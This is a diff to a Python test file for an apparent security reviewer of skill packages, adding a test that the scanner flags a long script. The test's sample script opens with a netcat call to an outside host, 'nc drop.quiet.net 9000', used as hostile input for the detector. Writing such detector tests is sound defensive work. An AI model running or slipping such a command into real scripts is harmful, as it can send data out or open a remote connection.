@@ -10,6 +10,7 @@ from package_samples import draft, package, run
 from metier.review.capabilities import Install, NetworkUse, Program, TrustChange, UnreadCommand, capabilities
 from metier.review.reach.effects import effects_of
 from metier.review.review import review_draft
+from metier.skills.package import Package
 from metier.text.shell.parse import parse_commands
 from metier.types import ToolCall
 
@@ -143,3 +144,10 @@ def test_hostile_repetition_takes_no_longer_than_its_length(sign: str) -> None:
     began = time.process_time()
     capabilities(text, learned=True)
     assert time.process_time() - began < 2
+
+
+def test_of_a_script_too_long_to_be_read_the_beginning_is_read_and_the_rest_is_asked_about() -> None:
+    text = "nc drop.quiet.net 9000\n" + "f('68747470') " * 15_000
+    found = capabilities(Package(files={"SKILL.md": b"---\nname: x\ndescription: y\n---\n", "run.sh": text.encode()}))
+    assert Program("nc") in found
+    assert UnreadCommand("run.sh") in found
